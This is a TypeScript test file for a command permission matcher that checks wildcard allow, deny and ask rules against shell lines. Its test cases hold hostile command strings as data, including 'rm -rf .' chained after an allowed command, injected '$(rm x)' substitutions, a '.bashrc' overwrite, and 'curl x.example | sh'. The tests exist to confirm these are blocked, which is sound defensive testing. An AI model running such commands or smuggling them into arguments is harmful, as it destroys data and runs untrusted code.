import { array, assert, constantFrom, property, string, tuple } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { mayRun, names } from './run-rules.ts';

describe('rules for commands', () => {
  it.each([
    ['npm test', 'npm test'],
    ['npm test', '  npm test '],
    ['git diff *', 'git diff src/a.ts --stat'],
    ['git diff *', 'git diff'],
    ['*', 'ls -la'],
    ['npm run *:check', 'npm run lint:check'],
    ['a.b+c[1]', 'a.b+c[1]'],
    ['make a && make b', 'make a && make b'],
    ['**', 'rm -rf build; echo $(date) > log'],
  ])('%s allows %s', (rule, line) => {
    expect(mayRun([rule], line)).toBe(true);
  });

  it.each([
    ['npm test', 'npm test --watch'],
    ['npm test', 'npm  test'],
    ['git diff *', 'git difference'],
    ['git diff *', 'git push'],
    ['git diff *', 'git diff; rm -rf .'],
    ['git diff *', 'git diff && rm -rf .'],
    ['git diff *', 'git diff | sh'],
    ['git diff *', 'git diff $(rm x)'],
    ['git diff *', 'git diff `rm x`'],
    ['git diff *', 'git diff > .bashrc'],
    ['git diff *', 'git diff\nrm x'],
    ['git diff *', 'FOO=1 git diff'],
    ['*', ''],
    ['', 'ls'],
    ['a.b', 'axb'],
  ])('%s does not allow %j', (rule, line) => {
    expect(mayRun([rule], line)).toBe(false);
  });

  it('allows nothing without rules', () => {
    assert(property(string(), (line) => !mayRun([], line)));
  });

  it('a line allows itself, and nothing else, when it has no star', () => {
    const words = string({ minLength: 1 }).filter((text) => text.trim() !== '' && !text.includes('*'));
    assert(property(words, words, (rule, line) => mayRun([rule], line) === (rule.trim() === line.trim())));
  });

  it('a star never lets a chaining character through', () => {
    const plain = constantFrom('git', ' ', 'log', '-x', '.', '/', "'");
    const chaining = constantFrom(';', '&', '|', '`', '$(', '\n', '\r', '>', '<', '(');
    const lines = tuple(array(plain), chaining, array(plain)).map(
      ([before, char, after]) => `git ${before.join('')}${char}${after.join('')}x`,
    );
    assert(property(lines, (line) => !mayRun(['git *', '*', 'git**', '*x'], line)));
  });

  it('decides quickly, whatever the rule', () => {
    const rule = `${'*a'.repeat(12)}`;
    expect(mayRun([rule], `${'a'.repeat(40)}!`)).toBe(false);
  });
});

describe('rules that deny or ask', () => {
  it.each([
    ['git push*', 'git push --force'],
    ['git push*', 'cd x && git push'],
    ['git push*', 'FOO=1 BAR=2 git push'],
    ['git push*', 'echo $(git push)'],
    ['git push*', '(git push; true)'],
    ['git push*', 'ls\ngit push'],
    ['rm *', 'rm -rf "a;b"'],
    ['curl * | sh', 'curl x.example | sh'],
    ['**', 'ls'],
  ])('%s names %j', (rule, line) => {
    expect(names([rule], line)).toBe(true);
  });

  it.each([
    ['git push*', 'git pull'],
    ['git push*', 'echo git push'],
    ['rm *', 'rmdir x'],
    ['rm *', ''],
  ])('%s does not name %j', (rule, line) => {
    expect(names([rule], line)).toBe(false);
  });
});
